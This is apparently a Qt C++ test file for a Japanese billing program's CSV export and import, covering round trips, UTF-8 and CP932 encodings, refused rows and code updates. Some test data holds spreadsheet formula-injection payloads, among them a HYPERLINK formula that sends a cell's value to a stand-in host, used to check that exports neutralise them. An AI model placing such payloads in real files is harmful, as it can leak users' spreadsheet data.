// CSV export of the masters and documents and CSV import of customers and products, on both
// engines: a round trip keeps every field, a refused row writes nothing and is named, UTF-8 and CP932
// files read alike, stored codes are updated or skipped.
#include "app/CsvExport.h"
#include "app/MainLists.h"
#include "billing/Receivables.h"
#include "data/Engine.h"
#include "data/ListCsv.h"
#include "DocumentFixture.h"
#include "documents/DocumentStore.h"
#include "masters/CsvImport.h"
#include "masters/CustomerStore.h"
#include "masters/ProductStore.h"
#include "TestDatabase.h"

#include <QStringEncoder>
#include <QTest>

namespace {

QList<CustomerRecord> sampleCustomers()
{
    CustomerRecord a;
    a.TorihikisakiCD = 101;
    a.TorihikisakiNM = QStringLiteral("株式会社\"山田\",商店");
    a.Keisyo = QStringLiteral("様");
    a.Yubin = QStringLiteral("452-0961");
    a.Jyusyo1 = QStringLiteral("愛知県清須市\n春日");
    a.Jyusyo2 = QStringLiteral("ﾊﾝｶｸ ﾋﾞﾙ 3F");
    a.Tel = QStringLiteral("052-000-0000");
    a.Fax = QStringLiteral("052-000-0001");
    a.Busyo = QStringLiteral("営業部, 第２課\r\n（本社）");
    a.Tantosya = QStringLiteral("山田　太郎");
    a.Mail = QStringLiteral("yamada@example.jp");
    a.Kisyuzan = -123456;
    a.ZenkaiSeikyuGaku = -1;
    a.SeikyuSimebi = 99;
    CustomerRecord b;
    b.TorihikisakiCD = 7;
    b.TorihikisakiNM = QStringLiteral("髙橋工務店");
    b.Keisyo = QStringLiteral("御中");
    b.Kisyuzan = 2147483647;
    b.SeikyuSimebi = 20;
    CustomerRecord sameCode = b; // the windows let two customers share a code
    sameCode.TorihikisakiNM = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
    sameCode.Tel = QStringLiteral("+81-52-0000");
    sameCode.Kisyuzan = -2147483647 - 1;
    return {a, b, sameCode};
}

QList<ProductRecord> sampleProducts()
{
    return {{10, QStringLiteral("角材,杉"), QStringLiteral("10\"×20\""), QStringLiteral("本"), -1500.25},
            {11, QStringLiteral("見積のみ"), QString(), QStringLiteral("式"), std::nullopt},
            {12, QStringLiteral("ネジ"), QStringLiteral("M3\n×10"), QStringLiteral("個"), 0.5}};
}

QByteArray cp932(const QString &text)
{
    QStringEncoder encoder("windows-31j");
    return encoder.encode(text);
}

// Customers as the import's header names them: code, name, honorific, closing day, opening balance.
QByteArray customerCsv(const QStringList &rows)
{
    return (QStringLiteral("取引先CD,取引先名,敬称,締日,期首売掛残\r\n") + rows.join(QStringLiteral("\r\n")) +
            QStringLiteral("\r\n"))
        .toUtf8();
}

} // namespace

class TestCsvExchange : public QObject
{
    Q_OBJECT

    std::unique_ptr<TestDatabase> t;

    // A customer as a document editor registers it with the document: code 0, no amounts, the
    // honorific chosen or none.
    void registerFromAnEditor(const QString &keisyo)
    {
        DocumentRecord d;
        d.Hiduke = QDate(2024, 4, 9);
        d.number = QStringLiteral("M-%1").arg(keisyo.size());
        DocumentStore::SaveOptions o;
        o.settings = {Numbering::kTenyuryoku, {}, {}, {}};
        o.newCustomer.TorihikisakiNM = QStringLiteral("見積先");
        o.newCustomer.Keisyo = keisyo;
        o.newCustomer.Tel = QStringLiteral("052-000-0000");
        DocumentStore::save(t->db(), DocumentStore::Kind::Mitumori, d, o);
    }

private Q_SLOTS:
    void init()
    {
        t = std::make_unique<TestDatabase>();
        KADOMEL_REQUIRE_DB(*t);
    }
    void cleanup() { t.reset(); }

    // Every customer the program can hold: registered by a document editor (code 0, perhaps no
    // honorific), sharing a code, with texts a spreadsheet would take for formulas. Export, import and
    // export again give the same file: into the same database nothing changes, into an emptied table
    // the customers come back with their registration dates (under new keys).
    void exportImportExportRoundTrips_data()
    {
        QTest::addColumn<Csv::Encoding>("encoding");
        QTest::addColumn<bool>("emptied");
        for (const bool emptied : {false, true}) {
            const char *where = emptied ? "into an emptied table" : "into the same database";
            QTest::addRow("utf-8 %s", where) << Csv::Encoding::Utf8 << emptied;
            QTest::addRow("cp932 %s", where) << Csv::Encoding::Cp932 << emptied;
        }
    }
    void exportImportExportRoundTrips()
    {
        QFETCH(Csv::Encoding, encoding);
        QFETCH(bool, emptied);
        TEngineDatabase &db = t->db();
        for (const CustomerRecord &c : sampleCustomers())
            CustomerStore::insert(db, c);
        for (const QString &keisyo : {QStringLiteral("様"), QString()})
            registerFromAnEditor(keisyo);
        for (const ProductRecord &p : sampleProducts())
            ProductStore::insert(db, p);
        const QList<QStringList> customers = CsvExport::rows(db, CsvExport::Kind::Customers);
        const QList<QStringList> products = CsvExport::rows(db, CsvExport::Kind::Products);
        const QByteArray customerBytes = Csv::encode(customers, encoding);
        QCOMPARE(customerBytes.startsWith("\xEF\xBB\xBF"), encoding == Csv::Encoding::Utf8);
        if (emptied)
            t->exec(QStringLiteral("delete from Torihikisaki; delete from Syohin"));
        const QStringList before = t->fingerprint();

        for (auto [kind, bytes] : {std::pair{CsvImport::Kind::Customers, customerBytes},
                                   std::pair{CsvImport::Kind::Products, Csv::encode(products, encoding)}}) {
            const CsvImport::Preview preview = CsvImport::preview(db, kind, bytes);
            QVERIFY2(preview.problemTexts().isEmpty(), qPrintable(preview.problemTexts().join('\n')));
            QCOMPARE(preview.encoding, encoding);
            QCOMPARE(preview.updates(CsvImport::Existing::Update), 0);
            const CsvImport::Outcome outcome =
                CsvImport::apply(db, preview, CsvImport::Existing::Update, false);
            QCOMPARE(emptied ? outcome.added : outcome.unchanged, preview.rows.size());
        }
        if (!emptied)
            QCOMPARE(t->fingerprint(), before);
        const auto withoutKeys = [emptied](QList<QStringList> rows) {
            if (emptied)
                for (QStringList &row : rows)
                    row.removeFirst();
            return rows;
        };
        QCOMPARE(withoutKeys(CsvExport::rows(db, CsvExport::Kind::Customers)), withoutKeys(customers));
        QCOMPARE(CsvExport::rows(db, CsvExport::Kind::Products), products);
    }

    // Texts a spreadsheet would run are written behind a "'" (numbers stay numbers) and read back
    // as they were.
    void formulaTextsAreWrittenAsText_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QByteArray>("written");
        QTest::addRow("HYPERLINK") << "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
                                   << QByteArray(
                                          "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
        QTest::addRow("plus") << "+81-52-000" << QByteArray(",'+81-52-000,");
        QTest::addRow("minus") << "-2+3" << QByteArray(",'-2+3,");
        QTest::addRow("at") << "@SUM(A1)" << QByteArray(",'@SUM(A1),");
        QTest::addRow("tab") << "\tcmd" << QByteArray(",'\tcmd,");
        QTest::addRow("carriage return") << "\r=1" << QByteArray(",\"'\r=1\",");
        QTest::addRow("already behind a quote") << "'=1" << QByteArray(",''=1,");
        QTest::addRow("a quote alone") << "'quoted" << QByteArray(",'quoted,");
        QTest::addRow("a number in a text") << "-500" << QByteArray(",-500,");
    }
    void formulaTextsAreWrittenAsText()
    {
        QFETCH(QString, name);
        QFETCH(QByteArray, written);
        CustomerRecord c;
        c.TorihikisakiCD = 1;
        c.TorihikisakiNM = name;
        c.Kisyuzan = -500;
        CustomerStore::insert(t->db(), c);
        const QByteArray bytes =
            Csv::encode(CsvExport::rows(t->db(), CsvExport::Kind::Customers), Csv::Encoding::Utf8);
        QVERIFY2(bytes.contains(written), bytes.constData());
        QVERIFY2(bytes.contains(",-500,0,0,"), bytes.constData()); // 期首売掛残, 前回請求額, 締日

        t->exec(QStringLiteral("delete from Torihikisaki"));
        const CsvImport::Preview preview = CsvImport::preview(t->db(), CsvImport::Kind::Customers, bytes);
        QVERIFY2(preview.problemTexts().isEmpty(), qPrintable(preview.problemTexts().join('\n')));
        CsvImport::apply(t->db(), preview, CsvImport::Existing::Update, false);
        const CustomerRecord back = *CustomerStore::load(t->db(), *CustomerStore::keyByCode(t->db(), 1));
        QCOMPARE(back.TorihikisakiNM, name);
        QCOMPARE(back.Kisyuzan, -500);
    }

    // The other files the program writes go through the same writer.
    void everyCsvGuardsFormulas()
    {
        DocumentFixture f(t->db());
        FixtureCustomer fc;
        fc.name = QStringLiteral("=1+2");
        const int c = f.addCustomer(fc);
        f.addDeliveryNote(c, DocumentFixture::lines(1), -500, QDate(2024, 4, 1));
        TEngineQuery list(&t->db());
        MainLists::setUpDeliveryNotes(list);
        list.Open();
        const QByteArray bytes = Csv::encode(ListCsv::listRows(list), Csv::Encoding::Utf8);
        QVERIFY2(bytes.contains(",'=1+2,-500,"), bytes.constData());
        const QByteArray receivables = Csv::encode(
            Receivables::csvRows(Receivables::balances(t->db(), QDate(2024, 4, 30))), Csv::Encoding::Cp932);
        QVERIFY2(receivables.contains(",'=1+2,0,0,-500,-500,"), receivables.constData());
    }

    // The invoice list carries per rate the amount without tax and the tax, and the untaxed amount,
    // after its own columns; empty for an invoice made without the option.
    void invoicesCarryTheirTax_data()
    {
        QTest::addColumn<int>("pricesIncludeTax");
        QTest::addColumn<QStringList>("taxColumns");
        QTest::addRow("prices without tax") << 0 << QStringList{"1005", "100", "2468", "197", "500"};
        QTest::addRow("prices with tax") << 1 << QStringList{"905", "100", "2271", "197", "500"};
    }
    void invoicesCarryTheirTax()
    {
        QFETCH(int, pricesIncludeTax);
        QFETCH(QStringList, taxColumns);
        DocumentFixture f(t->db());
        f.addCompany();
        t->exec(
            QStringLiteral("update JisyaJyoho set TekikakuKBN = 1, ZeiKomiKBN = %1").arg(pricesIncludeTax));
        const int c = f.addCustomer();
        const int taxed = f.addInvoice(c, FixtureInvoice{}, {});
        f.addInvoice(c, FixtureInvoice{QStringLiteral("S-0002")}, {});
        t->exec(QStringLiteral("update Seikyu set Taisyo10 = 1005, Zei10 = 100, Taisyo8 = 2468, Zei8 = 197, "
                               "Hikazei = 500 where key = %1")
                    .arg(taxed));
        const QStringList titles{"10%対象（税抜）", "10%消費税", "8%対象（税抜）", "8%消費税", "非課税"};
        TEngineQuery list(&t->db());
        MainLists::setUpInvoices(list);
        list.Open();
        const QList<QStringList> listRows = ListCsv::listRows(list);
        for (const QList<QStringList> &rows :
             {CsvExport::rows(t->db(), CsvExport::Kind::Invoices), CsvExport::invoiceListRows(list)}) {
            QCOMPARE(rows.size(), 3);
            QCOMPARE(rows.at(0), listRows.at(0) + titles); // the list's columns first, in their order
            QCOMPARE(rows.at(1), listRows.at(1) + taxColumns);
            QCOMPARE(rows.at(2), listRows.at(2) + QStringList(5, QString()));
        }
    }

    void aRefusedRowWritesNothingAndIsNamed_data()
    {
        QTest::addColumn<QStringList>("rows");
        QTest::addColumn<QString>("named");
        const QString good = QStringLiteral("1,良い商店,御中,20,100");
        QTest::addRow("no name") << QStringList{good, "2,,御中,20,0", "3,次,様,0,0"}
                                 << "3 行目 取引先名: 入力してください";
        QTest::addRow("code no number")
            << QStringList{good, "abc,名前,御中,20,0"} << "3 行目 取引先CD: 整数ではありません";
        QTest::addRow("name too long") << QStringList{good, "2," + QString(31, QChar(0x6F22)) + ",御中,0,0"}
                                       << "3 行目 取引先名: 長すぎます（60 バイトまで、62 バイトあります）";
        QTest::addRow("closing day") << QStringList{good, "2,名前,御中,45,0"}
                                     << "3 行目 締日: 0～31 または 99";
        QTest::addRow("amount beyond the range")
            << QStringList{good, "2,名前,御中,0,3000000000"} << "3 行目 期首売掛残: 数値が大きすぎます";
        QTest::addRow("honorific") << QStringList{good, "2,名前,殿,0,0"} << "3 行目 敬称: 御中、様";
        QTest::addRow("code twice") << QStringList{good, "1,同じ,御中,0,0"}
                                    << "3 行目 取引先CD: 2 行目と同じコード";
        QTest::addRow("line break before")
            << QStringList{"1,\"二行の\n名前\",御中,20,100", "2,名前,御中,32,0"} << "4 行目 締日:";
    }
    void aRefusedRowWritesNothingAndIsNamed()
    {
        QFETCH(QStringList, rows);
        QFETCH(QString, named);
        const QStringList before = t->fingerprint();
        const CsvImport::Preview preview =
            CsvImport::preview(t->db(), CsvImport::Kind::Customers, customerCsv(rows));
        QCOMPARE(preview.refused(), 1);
        try {
            CsvImport::apply(t->db(), preview, CsvImport::Existing::Update, false);
            QFAIL("a file with a refused row was imported");
        } catch (const AppError &e) {
            QVERIFY2(e.message().contains(named), qPrintable(e.message()));
        }
        QCOMPARE(t->fingerprint(), before);
        const CsvImport::Outcome outcome =
            CsvImport::apply(t->db(), preview, CsvImport::Existing::Update, true);
        QCOMPARE(outcome.added, rows.size() - 1);
        QCOMPARE(outcome.skipped, 1);
    }

    void aFileWithoutTheRequiredColumnsIsRefused()
    {
        const CsvImport::Preview preview =
            CsvImport::preview(t->db(), CsvImport::Kind::Products, QByteArray("商品名,単価\r\nネジ,10\r\n"));
        QVERIFY(!preview.usable());
        QVERIFY(preview.problemTexts().join('\n').contains(
            QStringLiteral("1 行目 商品CD: この見出しの列がありません")));
        QVERIFY_THROWS_EXCEPTION(AppError,
                                 CsvImport::apply(t->db(), preview, CsvImport::Existing::Update, true));
        const CsvImport::Preview open = CsvImport::preview(t->db(), CsvImport::Kind::Products,
                                                           QByteArray("商品CD,商品名\r\n1,\"閉じない\r\n"));
        QVERIFY(
            open.problemTexts().join('\n').contains(QStringLiteral("2 行目の「\"」が閉じられていません")));
    }

    void cp932AndUtf8GiveTheSameRows()
    {
        const QString text = QStringLiteral(
            "商品CD,商品名,規格,単位,単価\r\n1,\"髙島屋①, ｶﾅ\",\"9\"\"\",㎡,-12.5\r\n2,ネジ,,個,\r\n");
        const CsvImport::Preview utf8 = CsvImport::preview(t->db(), CsvImport::Kind::Products, text.toUtf8());
        const CsvImport::Preview bom = CsvImport::preview(t->db(), CsvImport::Kind::Products,
                                                          QByteArray("\xEF\xBB\xBF") + text.toUtf8());
        const CsvImport::Preview sjis = CsvImport::preview(t->db(), CsvImport::Kind::Products, cp932(text));
        QCOMPARE(utf8.encoding, Csv::Encoding::Utf8);
        QCOMPARE(bom.encoding, Csv::Encoding::Utf8);
        QCOMPARE(sjis.encoding, Csv::Encoding::Cp932);
        QCOMPARE(utf8.rows.size(), 2);
        for (const CsvImport::Preview *p : {&bom, &sjis})
            for (int i = 0; i < 2; ++i) {
                QCOMPARE(p->rows.at(i).fields, utf8.rows.at(i).fields);
                QCOMPARE(p->rows.at(i).line, utf8.rows.at(i).line);
            }
        QCOMPARE(utf8.rows.at(0).fields.at(1), QStringLiteral("髙島屋①, ｶﾅ"));
    }

    void storedCodesAreUpdatedOrSkipped_data()
    {
        QTest::addColumn<bool>("skip");
        QTest::addRow("update") << false;
        QTest::addRow("skip") << true;
    }
    void storedCodesAreUpdatedOrSkipped()
    {
        QFETCH(bool, skip);
        CustomerRecord old;
        old.TorihikisakiCD = 5;
        old.TorihikisakiNM = QStringLiteral("旧名");
        old.Tel = QStringLiteral("03-1111-2222");
        const int key = CustomerStore::insert(t->db(), old);
        const CsvImport::Preview preview =
            CsvImport::preview(t->db(), CsvImport::Kind::Customers,
                               QStringLiteral("取引先CD,取引先名\r\n5,新名\r\n6,新規\r\n").toUtf8());
        QVERIFY(preview.rows.at(0).existing);
        QVERIFY(!preview.rows.at(1).existing);
        const CsvImport::Outcome outcome = CsvImport::apply(
            t->db(), preview, skip ? CsvImport::Existing::Skip : CsvImport::Existing::Update, false);
        QCOMPARE(outcome.added, 1);
        QCOMPARE(outcome.updated, skip ? 0 : 1);
        QCOMPARE(outcome.skipped, skip ? 1 : 0);
        const CustomerRecord now = *CustomerStore::load(t->db(), key);
        QCOMPARE(now.TorihikisakiNM, skip ? QStringLiteral("旧名") : QStringLiteral("新名"));
        QCOMPARE(now.Tel, old.Tel); // a column the file lacks keeps its value
    }

    void documentsTakeOneRowPerLineWithinTheDates()
    {
        DocumentFixture f(t->db());
        const int c = f.addCustomer();
        f.addEstimate(c, DocumentFixture::lines(2), 200, QDate(2024, 4, 1));
        f.addEstimate(c, {}, 0, QDate(2024, 4, 2));
        f.addEstimate(c, DocumentFixture::lines(1), 100, QDate(2024, 5, 1));
        const QList<QStringList> rows =
            CsvExport::rows(t->db(), CsvExport::Kind::Estimates, QDate(2024, 4, 1), QDate(2024, 4, 30));
        QCOMPARE(rows.size(), 4); // the header, two lines, one document without lines
        const QStringList header = rows.at(0);
        QCOMPARE(header.mid(0, 3), (QStringList{"日付", "見積№", "取引先"}));
        QVERIFY(header.contains(QStringLiteral("明細金額")));
        QCOMPARE(rows.at(1).at(0), QStringLiteral("2024/04/01"));
        QCOMPARE(rows.at(1).mid(0, 7), rows.at(2).mid(0, 7)); // the document's fields repeated
        QCOMPARE(rows.at(2).at(header.indexOf(QStringLiteral("商品名"))), QStringLiteral("商品2"));
        QCOMPARE(rows.at(3).at(header.indexOf(QStringLiteral("商品名"))), QString());
        const QByteArray bytes = Csv::encode(rows, Csv::Encoding::Utf8);
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF日付,"));
        QCOMPARE(bytes.count("\r\n"), 4);

        f.addPayment(c, -500, QStringLiteral("返金"), QDate(2024, 4, 3));
        const QList<QStringList> payments =
            CsvExport::rows(t->db(), CsvExport::Kind::Payments, QDate(2024, 4, 3));
        QCOMPARE(payments.size(), 2);
        QVERIFY(payments.at(1).contains(QStringLiteral("-500")));
    }
};

QTEST_GUILESS_MAIN(TestCsvExchange)
#include "tst_csvexchange.moc"
